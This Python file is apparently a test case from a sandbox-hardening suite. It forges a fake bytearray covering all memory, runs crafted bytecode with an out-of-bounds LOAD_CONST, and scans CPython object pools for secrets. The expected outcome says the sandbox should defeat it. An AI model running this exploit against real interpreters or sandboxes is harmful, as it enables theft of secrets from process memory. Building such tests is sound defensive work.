"""Forge an object with crafted bytecode that spans all of memory, and search that for secrets."""

from __future__ import annotations

from typing import Any

from attacks.expected import Outcome
from attacks.preamble import Inputs, betrays, module

EXPECTED = Outcome(("wrong answer", "ended"))


def pools() -> list[int]:
    """Find where small objects lie, in pools of 16 KB, and what was thrown away beside them."""
    gc = module("gc")
    items = (id(item) >> 14 for each in gc.get_objects() for item in gc.get_referents(each))
    return [pool for pool, count in module("collections").Counter(items).items() if count > 30]


def attack(inputs: Inputs) -> bool:
    """Have a constant loaded from where a false bytearray lies; read memory through it."""
    struct = module("struct")
    opcodes = module("opcode").opmap
    false = struct.pack("<QQqQQQQ", 2**31, id(bytearray), 2**63 - 1, 2**63 - 1, 0, 0, 0)
    content = id(false) + bytes.__basicsize__ - 1
    pointer = struct.pack("<Q", content)
    constants = (None, pointer, false)
    first = id(constants) + tuple.__basicsize__
    index = (id(pointer) + bytes.__basicsize__ - 1 - first) // 8 % 2**32
    code = bytes([opcodes["RESUME"], 0])
    for shift in (24, 16, 8):
        code += bytes([opcodes["EXTENDED_ARG"], index >> shift & 0xFF])
    code += bytes([opcodes["LOAD_CONST"], index & 0xFF, opcodes["RETURN_VALUE"], 0])

    def body() -> Any:
        return None

    body.__code__ = body.__code__.replace(co_code=code, co_consts=constants, co_stacksize=9)
    memory = body()
    return any(betrays(bytes(memory[pool << 14 : (pool + 1) << 14])) for pool in pools())
